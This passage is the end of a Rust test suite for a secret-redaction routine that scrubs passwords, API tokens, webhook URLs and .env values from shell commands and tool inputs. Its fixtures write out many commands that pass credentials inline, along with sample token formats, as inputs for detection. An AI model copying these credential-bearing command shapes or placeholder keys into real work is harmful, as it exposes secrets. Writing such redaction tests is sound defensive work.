                "password": "[redacted]",
                "env": {"API_TOKEN": "[redacted]", "HOME": "/h", "DB": "[redacted]"},
                "headers": {"X-Custom": "[redacted]", "Accept": "[redacted]"},
                "items": [{"v": "keep"}, {"v": "[redacted]"}],
                "max_tokens": 5,
                "nothing": null
            })
        );
    }

    #[test]
    fn redacts_passwords_in_options_variables_and_provider_tokens() {
        let cases = [
            ("mysql -u root --password hunter2xyz db", "hunter2xyz"),
            ("mysql -u root -phunter2xyz db", "hunter2xyz"),
            ("pg_dump --password=Opensesame1 db", "Opensesame1"),
            ("sshpass -p 'Sup3rPass' ssh host", "Sup3rPass"),
            ("docker login -u me -p DockPw42 registry.io", "DockPw42"),
            ("curl -u admin:CurlPw77 https://x", "CurlPw77"),
            ("curl --user admin:CurlPw88 https://x", "CurlPw88"),
            (
                "aws configure set aws_secret_access_key AwsSec999",
                "AwsSec999",
            ),
            ("DB_PASS=ab1 ./run", "ab1"),
            ("export API_TOKEN=\"t0k\"", "t0k"),
            ("MY_SECRET=s3 make", "s3"),
            ("STRIPE_KEY=k9 node x.js", "k9"),
            (
                "git clone https://oauth2:glpat-AbCdEfGhIjKlMnOpQrSt@gitlab.com/a/b",
                "glpat-",
            ),
            (
                "curl -X POST https://hooks.slack.com/services/T000/B000/XXXXXXXXXXXXXXXX",
                "XXXXXXXXXXXXXXXX",
            ),
            (
                "echo SG.abcdefghijklmnopqrst.uvwxyzABCDEFGHIJKLMN",
                "SG.abc",
            ),
            (
                "twilio AC0123456789abcdef0123456789abcdef",
                "0123456789abcdef0123",
            ),
            ("mailgun key-0123456789abcdef0123456789abcdef", "key-0123"),
            (
                "curl 'https://acct.blob.core.windows.net/c?sv=2022&sig=AbC%2Bdef123'",
                "AbC%2Bdef123",
            ),
            ("stripe sk_live_abcdefghij1234567890", "sk_live_"),
            (
                "echo wJalrXUtnFEMI/K7MDENG/bPxRfiCYzEXAMPLE9KEY",
                "wJalrXUtnFEMI",
            ),
            ("tok=Zm9vYmFyQmF6UXV4MTIzNDU2Nzg5MGFiY2Rl", "Zm9vYmFyQmF6"),
            ("use the db, my password is Tr0ub4dor", "Tr0ub4dor"),
        ];
        for (input, secret) in cases {
            let out = r(input);
            assert!(!out.contains(secret), "{input} -> {out}");
            assert!(out.contains(REDACTED), "{input} -> {out}");
        }
    }

    #[test]
    fn entropy_and_option_rules_keep_ordinary_commands() {
        for s in [
            "mkdir -p src/components/Button2Header",
            "docker run -p 8080:80 nginx",
            "ssh -p 2222 host",
            "git checkout 4f1c2a9b8e7d6c5b4a39281706f5e4d3c2b1a098",
            "docker pull ubuntu@sha256:45b23dee08af5e43a7fea6c4cf9c25ccf269ee113168c19722f87876677c5cb2",
            "cat /home/Dev/Projects/App2024/src/main.rs",
            "bash /tmp/.tmpXyZ12aBc9/project/scripts/build.sh",
            "ls tmpQw3rTyUi0pAsDf/project/Scripts9X",
            "uuid 550e8400-e29b-41d4-a716-446655440000",
            "docker login --password-stdin registry.io",
            "npm install --save-dev @typescript-eslint/eslint-plugin",
            "cargo test --test risk_hook the_key_never_appears_in_output",
            "RUST_LOG=debug cargo run",
        ] {
            assert_eq!(r(s), s);
        }
    }

    #[test]
    fn env_file_contents_and_registered_literals() {
        let v = serde_json::json!({
            "file_path": "/p/.env.local",
            "content": "# db\nDATABASE_URL=postgres://h/db\nexport STRIPE=abc\nPLAIN=1\n\n"
        });
        let out = redact_tool_input(&v, &[]).to_string();
        assert!(
            !out.contains("postgres://h/db") && !out.contains("abc"),
            "{out}"
        );
        assert!(
            out.contains("DATABASE_URL=[redacted]") && out.contains("# db"),
            "{out}"
        );
        let v = serde_json::json!({"file_path": "/p/README.md", "content": "PLAIN=1"});
        assert_eq!(redact_tool_input(&v, &[]), v);
        register_secret("literal-backend-key-1234");
        assert_eq!(
            r("echo literal-backend-key-1234 > x"),
            "echo [redacted] > x"
        );
    }

    #[test]
    fn ordinary_commands_compile_no_pattern() {
        // Compiling patterns is what cost 9.2 ms a call once: the everyday commands of a
        // session must open no gate (the entropy and literal scans are linear and regex-free).
        for s in [
            "npm run build",
            "cargo test --workspace",
            "git push -u origin main",
            "git commit -m 'fix the parser'",
            "python manage.py migrate",
            "kubectl get pods -n default",
            "ls -la src/",
            "docker compose up -d",
            "make -j4 all",
            "pytest -q tests/test_api.py",
            "cat msg.txt",
        ] {
            let lower = s.to_ascii_lowercase();
            let open: Vec<&str> = PATTERNS
                .iter()
                .filter(|(n, _)| gate_open(n, s, &lower))
                .map(|(_, p)| *p)
                .collect();
            assert!(open.is_empty(), "{s}: {open:?}");
        }
    }

    #[test]
    fn redaction_is_idempotent() {
        let s = "curl -u admin:pw https://u:p@h -H 'Authorization: Bearer tok123456'";
        assert_eq!(r(&r(s)), r(s));
    }
}
